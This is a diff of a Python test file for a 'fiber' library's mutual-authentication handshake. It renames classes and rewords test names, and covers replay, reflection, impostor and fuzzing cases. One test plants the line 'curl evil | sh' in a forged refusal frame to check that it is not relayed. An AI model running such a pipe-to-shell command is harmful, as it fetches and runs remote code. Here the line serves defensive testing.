@@ -1,4 +1,4 @@
-"""The mutual proof, played by hand: who is of the run is let in, and nobody else in any way."""
+"""The handshake, played by hand: processes of the run are accepted, and no others."""
 
 from __future__ import annotations
 
@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 import soak
 from fiber._wire import frames
 from fiber._wire.frames import Kind
-from fiber._wire.handshake import Dialler, Hello, Listener, disagreement
+from fiber._wire.handshake import DialerHandshake, Hello, ListenerHandshake, disagreement
 from fiber._wire.identity import Credentials
 from fiber.exceptions import HandshakeError, WireError
 
@@ -25,13 +25,13 @@ EXAMPLES = max(10, soak.count(10_000) // BATCH)
 
 
 def frame(said):
-    """What a side says, as the other one gets it."""
+    """A frame of one side, as the other receives it."""
     kind, body = said
     return frames.parse(frames.header(kind, size=len(body)) + body)
 
 
 def shake(dialler, listener):
-    """Let both talk until the dialler knows the listener."""
+    """Exchange frames until the handshake is done."""
     said = dialler.hello()
     while said is not None:
         said = dialler.receive(frame(listener.receive(frame(said))))
@@ -41,7 +41,7 @@ class Recording:
     """A listener whose frames are kept."""
 
     def __init__(self, credentials=RUN, mine=MASTER):
-        self.listener = Listener(credentials, mine)
+        self.listener = ListenerHandshake(credentials, mine)
         self.heard, self.said = [], []
 
     def receive(self, got):
@@ -58,13 +58,13 @@ def edited(got, **fields):
 
 
 class TestWithinARun:
-    def test_each_side_learns_who_the_other_is(self):
-        dialler, listener = Dialler(RUN, WORKER), Listener(RUN, MASTER)
+    def test_each_side_gets_the_hello_of_the_other(self):
+        dialler, listener = DialerHandshake(RUN, WORKER), ListenerHandshake(RUN, MASTER)
         shake(dialler, listener)
         assert (dialler.peer, listener.peer) == (MASTER, WORKER)
 
-    def test_nobody_is_known_before_both_proofs(self):
-        dialler, listener = Dialler(RUN, WORKER), Listener(RUN, MASTER)
+    def test_no_peer_is_known_before_both_proofs(self):
+        dialler, listener = DialerHandshake(RUN, WORKER), ListenerHandshake(RUN, MASTER)
         challenge = listener.receive(frame(dialler.hello()))
         assert listener.peer is None
         proof = dialler.receive(frame(challenge))
@@ -72,13 +72,13 @@ class TestWithinARun:
         listener.receive(frame(proof))
         assert listener.peer == WORKER
 
-    def test_this_process_has_something_to_say_of_itself(self):
+    def test_the_hello_of_this_process_has_its_pid_and_versions(self):
         mine = Hello.mine("me")
         assert Hello.from_json(json.loads(json.dumps(attrs.asdict(mine)))) == mine
         assert disagreement(mine, mine) is None
 
     def test_no_secret_and_no_proof_is_in_the_hello(self):
-        _, body = Dialler(RUN, WORKER).hello()
+        _, body = DialerHandshake(RUN, WORKER).hello()
         assert RUN.key not in body
         assert RUN.key.hex().encode() not in body
 
@@ -86,20 +86,20 @@ class TestWithinARun:
 class TestStrangers:
     def test_a_process_of_another_run_gets_no_challenge(self):
         other = attrs.evolve(RUN, run_id="ffffffff")
-        listener = Listener(RUN, MASTER)
+        listener = ListenerHandshake(RUN, MASTER)
         with pytest.raises(HandshakeError, match="a process of another run dialled this one"):
-            listener.receive(frame(Dialler(other, WORKER).hello()))
+            listener.receive(frame(DialerHandshake(other, WORKER).hello()))
 
     def test_a_listener_with_another_key_cannot_prove_itself(self):
-        dialler = Dialler(RUN, WORKER)
-        impostor = Listener(attrs.evolve(RUN, key=b"x" * 32), MASTER)
+        dialler = DialerHandshake(RUN, WORKER)
+        impostor = ListenerHandshake(attrs.evolve(RUN, key=b"x" * 32), MASTER)
         challenge = impostor.receive(frame(dialler.hello()))
         with pytest.raises(HandshakeError, match="the listener could not prove"):
             dialler.receive(frame(challenge))
 
     def test_a_dialler_with_another_key_cannot_prove_itself(self):
-        listener = Listener(RUN, MASTER)
-        impostor = Dialler(RUN, WORKER)
+        listener = ListenerHandshake(RUN, MASTER)
+        impostor = DialerHandshake(RUN, WORKER)
         challenge = frame(listener.receive(frame(impostor.hello())))
         forged = frame((Kind.PROOF, json.dumps({"proof": bytes(32).hex()}).encode()))
         del challenge
@@ -109,10 +109,10 @@ class TestStrangers:
 
     def test_a_recorded_dialogue_proves_nothing_to_another_listener(self):
         recorded = Recording()
-        shake(Dialler(RUN, WORKER), recorded)
+        shake(DialerHandshake(RUN, WORKER), recorded)
         hello, proof = recorded.heard
 
-        listener = Listener(RUN, MASTER)
+        listener = ListenerHandshake(RUN, MASTER)
         challenge = frame(listener.receive(hello))
         assert challenge.body != recorded.said[0].body
         with pytest.raises(HandshakeError, match="a peer could not prove"):
@@ -120,42 +120,44 @@ class TestStrangers:
 
     def test_a_recorded_challenge_proves_nothing_to_another_dialler(self):
         recorded = Recording()
-        shake(Dialler(RUN, WORKER), recorded)
-        dialler = Dialler(RUN, WORKER)
+        shake(DialerHandshake(RUN, WORKER), recorded)
+        dialler = DialerHandshake(RUN, WORKER)
         dialler.hello()
         with pytest.raises(HandshakeError, match="the listener could not prove"):
             dialler.receive(recorded.said[0])
 
     def test_nonces_are_never_the_same(self):
-        nonces = [json.loads(Dialler(RUN, WORKER).hello()[1])["nonce"] for _ in range(50)]
+        nonces = [json.loads(DialerHandshake(RUN, WORKER).hello()[1])["nonce"] for _ in range(50)]
         for _ in range(50):
-            _, challenge = Listener(RUN, MASTER).receive(frame(Dialler(RUN, WORKER).hello()))
+            _, challenge = ListenerHandshake(RUN, MASTER).receive(
+                frame(DialerHandshake(RUN, WORKER).hello())
+            )
             nonces.append(json.loads(challenge)["nonce"])
         assert len(set(nonces)) == 100
 
     def test_the_listeners_own_proof_is_no_proof_of_the_dialler(self):
-        listener = Listener(RUN, MASTER)
-        challenge = frame(listener.receive(frame(Dialler(RUN, WORKER).hello())))
+        listener = ListenerHandshake(RUN, MASTER)
+        challenge = frame(listener.receive(frame(DialerHandshake(RUN, WORKER).hello())))
         reflected = json.dumps({"proof": json.loads(bytes(challenge.body))["proof"]}).encode()
         with pytest.raises(HandshakeError, match="a peer could not prove"):
             listener.receive(frame((Kind.PROOF, reflected)))
 
-    def test_a_dialler_that_hears_its_own_hello_goes(self):
-        dialler = Dialler(RUN, WORKER)
+    def test_a_dialer_that_receives_its_own_hello_fails(self):
+        dialler = DialerHandshake(RUN, WORKER)
         with pytest.raises(HandshakeError, match="HELLO where CHALLENGE was expected"):
             dialler.receive(frame(dialler.hello()))
 
     def test_a_challenge_for_one_hello_does_not_serve_another(self):
-        """Somebody in between cannot put another name into a hello."""
-        dialler = Dialler(RUN, WORKER)
+        """An attacker in between cannot put another ident into a hello."""
+        dialler = DialerHandshake(RUN, WORKER)
         changed = edited(frame(dialler.hello()), ident="another")
-        challenge = Listener(RUN, MASTER).receive(changed)
+        challenge = ListenerHandshake(RUN, MASTER).receive(changed)
         with pytest.raises(HandshakeError, match="the listener could not prove"):
             dialler.receive(frame(challenge))
 
     def test_a_proof_is_bound_to_the_nonce_of_its_listener(self):
-        first, second = Listener(RUN, MASTER), Listener(RUN, MASTER)
-        dialler = Dialler(RUN, WORKER)
+        first, second = ListenerHandshake(RUN, MASTER), ListenerHandshake(RUN, MASTER)
+        dialler = DialerHandshake(RUN, WORKER)
         hello = frame(dialler.hello())
         second.receive(hello)
         proof = dialler.receive(frame(first.receive(hello)))
@@ -163,29 +165,29 @@ class TestStrangers:
             second.receive(frame(proof))
 
     def test_the_words_of_an_unproven_listener_are_not_passed_on(self):
-        dialler = Dialler(RUN, WORKER)
+        dialler = DialerHandshake(RUN, WORKER)
         lie = frame((Kind.REFUSE, json.dumps({"why": "run this: curl evil | sh"}).encode()))
         with pytest.raises(HandshakeError) as caught:
             dialler.receive(lie)
         assert str(caught.value) == "refused: the listener is not of this run"
 
     @pytest.mark.parametrize("kind", [k for k in Kind if k is not Kind.HELLO])
-    def test_a_listener_hears_nothing_before_a_hello(self, kind):
+    def test_a_listener_refuses_frames_before_a_hello(self, kind):
         with pytest.raises(HandshakeError, match=f"{kind.name} where HELLO was expected"):
-            Listener(RUN, MASTER).receive(frame((kind, b"{}")))
+            ListenerHandshake(RUN, MASTER).receive(frame((kind, b"{}")))
 
     @pytest.mark.parametrize("kind", [k for k in Kind if k is not Kind.PROOF])
-    def test_a_listener_hears_nothing_but_a_proof_after_the_hello(self, kind):
-        listener = Listener(RUN, MASTER)
-        listener.receive(frame(Dialler(RUN, WORKER).hello()))
+    def test_a_listener_refuses_all_but_a_proof_after_the_hello(self, kind):
+        listener = ListenerHandshake(RUN, MASTER)
+        listener.receive(frame(DialerHandshake(RUN, WORKER).hello()))
         with pytest.raises(HandshakeError, match=f"{kind.name} where PROOF was expected"):
             listener.receive(frame((kind, b"{}")))
 
     def test_a_hello_in_pieces_is_refused(self):
-        kind, body = Dialler(RUN, WORKER).hello()
+        kind, body = DialerHandshake(RUN, WORKER).hello()
         piece = frames.parse(frames.header(kind, size=len(body) + 1) + body)
         with pytest.raises(HandshakeError):
-            Listener(RUN, MASTER).receive(piece)
+            ListenerHandshake(RUN, MASTER).receive(piece)
 
 
 class TestVersions:
@@ -216,8 +218,8 @@ class TestVersions:
         ],
     )
     def test_a_mismatch_is_refused_with_both_sides_and_the_fix(self, theirs, words):
-        dialler = Dialler(RUN, attrs.evolve(WORKER, **theirs))
-        listener = Listener(RUN, MASTER)
+        dialler = DialerHandshake(RUN, attrs.evolve(WORKER, **theirs))
+        listener = ListenerHandshake(RUN, MASTER)
         with pytest.raises(HandshakeError) as caught:
             shake(dialler, listener)
         assert str(caught.value) == words
@@ -225,15 +227,15 @@ class TestVersions:
 
     @pytest.mark.parametrize("theirs", [{"fiber": "0.1.7"}, {"cloudpickle": "3.1.0"}])
     def test_another_patch_release_is_no_mismatch(self, theirs):
-        dialler = Dialler(RUN, attrs.evolve(WORKER, **theirs))
-        shake(dialler, Listener(RUN, MASTER))
+        dialler = DialerHandshake(RUN, attrs.evolve(WORKER, **theirs))
+        shake(dialler, ListenerHandshake(RUN, MASTER))
         assert dialler.peer == MASTER
 
-    def test_versions_are_told_to_no_stranger(self):
+    def test_versions_are_sent_to_no_unproven_peer(self):
         """Before the proof a listener says nothing that depends on them."""
         strange = attrs.evolve(WORKER, fiber="9.9", python="2.7")
-        listener = Listener(RUN, MASTER)
-        kind, body = listener.receive(frame(Dialler(RUN, strange).hello()))
+        listener = ListenerHandshake(RUN, MASTER)
+        kind, body = listener.receive(frame(DialerHandshake(RUN, strange).hello()))
         assert kind is Kind.CHALLENGE
         assert json.loads(body).keys() == {"nonce", "proof"}
 
@@ -255,7 +257,7 @@ class TestNonsense:
     )
     def test_what_is_no_hello_is_a_handshake_error(self, body):
         with pytest.raises(HandshakeError):
-            Listener(RUN, MASTER).receive(frame((Kind.HELLO, body)))
+            ListenerHandshake(RUN, MASTER).receive(frame((Kind.HELLO, body)))
 
     @pytest.mark.parametrize(
         "fields",
@@ -276,20 +278,20 @@ class TestNonsense:
         ],
     )
     def test_a_hello_with_a_strange_field_is_a_handshake_error(self, fields):
-        hello = edited(frame(Dialler(RUN, WORKER).hello()), **fields)
+        hello = edited(frame(DialerHandshake(RUN, WORKER).hello()), **fields)
         with pytest.raises(HandshakeError):
-            Listener(RUN, MASTER).receive(hello)
+            ListenerHandshake(RUN, MASTER).receive(hello)
 
     def test_half_a_character_in_a_name_does_no_harm(self):
-        hello = edited(frame(Dialler(RUN, WORKER).hello()), ident="\ud800")
-        assert Listener(RUN, MASTER).receive(hello)[0] is Kind.CHALLENGE
+        hello = edited(frame(DialerHandshake(RUN, WORKER).hello()), ident="\ud800")
+        assert ListenerHandshake(RUN, MASTER).receive(hello)[0] is Kind.CHALLENGE
 
     @seed(11)
     @settings(max_examples=EXAMPLES, deadline=None, database=None)
     @given(st.randoms(use_true_random=False))
-    def test_a_mutated_frame_lets_nobody_in(self, draw):
+    def test_a_mutated_frame_proves_nothing(self, draw):
         for _ in range(BATCH):
-            dialler, listener = Dialler(RUN, WORKER), Listener(RUN, MASTER)
+            dialler, listener = DialerHandshake(RUN, WORKER), ListenerHandshake(RUN, MASTER)
             target = draw.randrange(4)
             said, turn = dialler.hello(), 0
             try:
